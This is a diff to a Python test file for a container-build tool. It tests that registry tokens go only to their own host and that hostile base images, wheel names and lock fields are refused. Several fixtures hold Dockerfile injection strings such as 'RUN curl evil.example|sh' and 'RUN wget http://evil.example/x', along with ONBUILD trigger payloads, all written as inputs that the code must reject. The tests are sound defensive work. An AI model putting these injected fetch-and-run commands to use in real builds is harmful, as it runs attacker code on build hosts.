@@ -6,45 +6,68 @@ import hashlib
 import json
 import os
 import re
+import shutil
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from cpack_build.backends.builder import _explained
-from cpack_build.backends.dockerfile import _added, _quoted, dockerfile
+from cpack_build.backends.buildkit import BuildKit
+from cpack_build.backends.dockerfile import _added, _quoted, dockerfile, text_of
 from cpack_build.backends.features import features_of, version_in_engine
 from cpack_build.backends.ingredients import LockContext, clean_url
-from cpack_build.backends.protocol import Request
-from cpack_build.errors import EngineFailed, HashMismatch, NetworkError, StorageError
+from cpack_build.backends.protocol import Farm, Request
+from cpack_build.errors import (
+    BadField,
+    BadInput,
+    EngineFailed,
+    HashMismatch,
+    NetworkError,
+    StorageError,
+    UnsafeInput,
+    UsageError,
+)
 from cpack_build.fetch.http import Sources
 from cpack_build.fetch.mirrors import Mirrors
 from cpack_build.fetch.store import Store
 from cpack_build.image.gather import Places
-from cpack_build.lock.schema import Lock, PinnedWheels
-from cpack_build.lock.wheels import Wheel, pylock_text
+from cpack_build.lock.interpreter import vouch
+from cpack_build.lock.schema import Lock, PinnedWheels, read_lock
+from cpack_build.lock.wheels import Wheel, pylock_text, wheels_of
+from cpack_build.oci.documents import require_no_triggers
+from cpack_build.oci.layout import write_layout
 from tests.image.small import CODE, DEBS, make_parts
 from tests.making import make_wheel
+from tests.oci.images import image_of
 
 A, B = "a" * 64, "b" * 64
 NEW, OLD = features_of((0, 13)), features_of((0, 8))
 
 
-def _written(folder: Path, lock: Lock, *, new: bool = True) -> tuple[str, tuple[str, ...]]:
-    """The Dockerfile of *lock*, whose parts lie in *folder*, and the secrets that it mounts."""
-    made = make_wheel(folder / "wheels", "uv", {"uv-1.0.data/scripts/uv": b"#!uv"})
-    pylock = pylock_text(
-        [Wheel(made.name, made.version, made.filename, None, made.sha256, made.size)], python_version="3.11"
-    )
-    request = Request(
+def _request(folder: Path, lock: Lock, *, trust: bool = False) -> Request:
+    """*lock*, whose parts lie in *folder*, to be built."""
+    return Request(
         (lock,),
         documents={"snapshot.json": b"{}"},
         pack=None,
         places={lock.platform: Places(f"oci:{folder}/base.oci", [str(folder / "models")], [str(folder / "wheels")])},
         store=Store(folder / "store"),
         sources=Sources(Mirrors({CODE: f"{folder}/", DEBS: f"{folder}/"})),
+        trust=trust,
     )
-    context = LockContext(folder / "context", lock, request, fetches=new, lock=lock)
+
+
+def _written(
+    folder: Path, lock: Lock, *, new: bool = True, trust: bool = False, stays: bool = False
+) -> tuple[str, tuple[str, ...]]:
+    """The Dockerfile of *lock*, whose parts lie in *folder*, and the secrets that it mounts."""
+    made = make_wheel(folder / "wheels", "uv", {"uv-1.0.data/scripts/uv": b"#!uv"})
+    pylock = pylock_text(
+        [Wheel(made.name, made.version, made.filename, None, made.sha256, made.size)], python_version="3.11"
+    )
+    request = _request(folder, lock, trust=trust)
+    context = LockContext(folder / "context", lock, request, fetches=new, stays=stays, lock=lock)
     context.folder.mkdir()
     uv = PinnedWheels(pylock=pylock, pylock_sha256=hashlib.sha256(pylock.encode()).hexdigest())
     plan = dockerfile(context, NEW if new else OLD, uv=uv)
@@ -75,6 +98,7 @@ def test_a_public_model_is_fetched_by_its_hash_and_no_token_is_asked_for(tmp_pat
 def test_a_token_is_mounted_for_its_own_host_alone(tmp_path: Path, host: str, secret: str | None) -> None:
     lock = make_parts(tmp_path, models=[100])
     lock = _with_model(lock, sources=(f"https://{host}/x.safetensors",), access="gated")
+    vouch(lock, store=Store(tmp_path / "store"))
     text, secrets = _written(tmp_path, lock)
     if secret is None:
         assert (secrets, host in text) == ((), False), "fetched here and sent"
@@ -86,9 +110,20 @@ def test_a_token_is_mounted_for_its_own_host_alone(tmp_path: Path, host: str, se
         assert secrets == (secret,)
 
 
+@pytest.mark.parametrize("trust", [False, True])
+def test_a_token_is_shown_to_no_python_that_others_chose(tmp_path: Path, trust: bool) -> None:
+    """The step that fetches runs the lock's own Python, with a network; here that of a base nobody here has named."""
+    lock = make_parts(tmp_path, models=[100])
+    lock = _with_model(lock, sources=("https://huggingface.co/x.safetensors",), access="gated")
+    text, secrets = _written(tmp_path, lock, trust=trust)
+    assert (secrets, "type=secret" in text, "huggingface.co" in text) == ((), False, False), "fetched here and sent"
+    assert (tmp_path / "context" / "models" / lock.models[0].sha256).exists()
+
+
 def test_a_token_is_not_sent_without_tls(tmp_path: Path) -> None:
     lock = make_parts(tmp_path, models=[100])
     lock = _with_model(lock, sources=("http://huggingface.co/x.safetensors",), access="private")
+    vouch(lock, store=Store(tmp_path / "store"))
     text, secrets = _written(tmp_path, lock)
     assert (secrets, "huggingface.co" in text) == ((), False)
 
@@ -129,6 +164,91 @@ def test_an_address_is_one_word(url: str) -> None:
     cleaned = clean_url(url)
     assert cleaned is not None
     assert not re.search(r"[\s\"`]", cleaned)
+
+
+REFERENCE = "debian AS ground\nRUN wget http://evil.example/x\n#:x"
+WHEEL = "foo-1.0-py3-none-any\nFROM debian AS tools\nRUN curl evil.example|sh #.whl"
+
+
+def test_a_base_whose_name_is_more_than_a_name_is_refused_where_the_lock_is_read_and_before_it_is_built(
+    tmp_path: Path,
+) -> None:
+    lock = make_parts(tmp_path, models=[])
+    hostile = lock.model_copy(update={"base": lock.base.model_copy(update={"reference": REFERENCE})})
+    with pytest.raises(BadField, match=r"base\.image\.reference"):
+        read_lock(hostile.to_bytes(), name="x.lock")
+    for reference in (REFERENCE, "debian AS ground", "$HOME/x"):
+        hostile = lock.model_copy(update={"base": lock.base.model_copy(update={"reference": reference})})
+        (refusal,) = BuildKit(Farm()).refusals(_request(tmp_path, hostile))
+        assert "base.reference" in str(refusal)
+    with pytest.raises(UsageError):
+        _written(tmp_path, hostile)
+
+
+def test_a_wheel_whose_name_is_more_than_a_name_is_refused(tmp_path: Path) -> None:
+    pylock = pylock_text([Wheel("foo", "1.0", WHEEL, "https://h.example/x", A, 1)], python_version="3.11")
+    pinned = PinnedWheels(pylock=pylock, pylock_sha256=hashlib.sha256(pylock.encode()).hexdigest())
+    with pytest.raises(BadInput, match="pylock is damaged"):
+        wheels_of(pinned)
+
+
+@pytest.mark.parametrize("builder", ["1\nRUN evil", "1\r", "é", "x" * 81])
+def test_the_version_that_made_a_lock_is_a_short_line(tmp_path: Path, builder: str) -> None:
+    lock = make_parts(tmp_path, models=[]).model_copy(update={"builder": builder})
+    with pytest.raises(BadField, match="builder"):
+        read_lock(lock.to_bytes(), name="x.lock")
+
+
+@pytest.mark.parametrize("line", [f"FROM {REFERENCE}", f"ADD x /{WHEEL}", "LABEL a=b\rRUN evil"])
+def test_no_line_is_two(line: str) -> None:
+    assert text_of(["FROM scratch", "USER 1"]) == "FROM scratch\nUSER 1\n"
+    with pytest.raises(UnsafeInput, match="line end"):
+        text_of(["FROM scratch", line])
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        b'{"config": {"OnBuild": ["RUN evil"]}}',
+        b'{"CONFIG": {"onbuild": ["RUN evil"]}}',
+        b'{"config": {"OnBuild": ["RUN evil"]}, "config": {}}',
+    ],
+)
+def test_a_base_that_does_something_by_itself_is_refused(config: bytes) -> None:
+    require_no_triggers("x", b'{"config": {"OnBuild": null, "Labels": {"OnBuild": "x"}}, "c": {"OnBuild": []}}')
+    with pytest.raises(UnsafeInput, match="ONBUILD"):
+        require_no_triggers("x", config)
+
+
+def test_such_a_base_is_refused_before_anything_is_written(tmp_path: Path) -> None:
+    lock = make_parts(tmp_path, models=[])
+    base = image_of([], config={"OnBuild": ["RUN wget evil.example"]})
+    shutil.rmtree(tmp_path / "base.oci")
+    write_layout(base, tmp_path / "base.oci")
+    lock = lock.model_copy(update={"base": lock.base.model_copy(update={"digest": base.digest})})
+    with pytest.raises(UnsafeInput, match="ONBUILD"):
+        BuildKit(Farm()).written(_request(tmp_path, lock), tmp_path / "printed")
+    assert not list((tmp_path / "printed").iterdir())
+
+
+@pytest.mark.parametrize("stays", [False, True])
+def test_a_context_leaves_the_files_of_others_and_what_the_store_knows_of_them_alone(
+    tmp_path: Path, stays: bool
+) -> None:
+    """A hard link changes a file's ctime; and in a printed context it would be the file itself, to be changed later."""
+    lock = make_parts(tmp_path, models=[100])
+    (model,) = lock.models
+    path = next((tmp_path / "models").rglob("*.safetensors"))
+    store = Store(tmp_path / "store")
+    before = store.adopt(path)
+    blob = store.put([(tmp_path / "tool.deb").read_bytes()], what="tool")
+    _written(tmp_path, _with_model(lock, sources=()), stays=stays)
+    assert path.stat().st_nlink == 1
+    assert store.find(model.sha256) == before
+    placed = tmp_path / "context" / "models" / model.sha256
+    assert placed.read_bytes() == path.read_bytes()
+    # as many names as the store made it, or its hash is known for the stat that it has now
+    assert blob.path.stat().st_nlink == 1 or (not stays and store.known(blob.path) == blob.sha256)
 
 
 def test_names_are_escaped_for_the_instruction_in_which_they_stand() -> None:
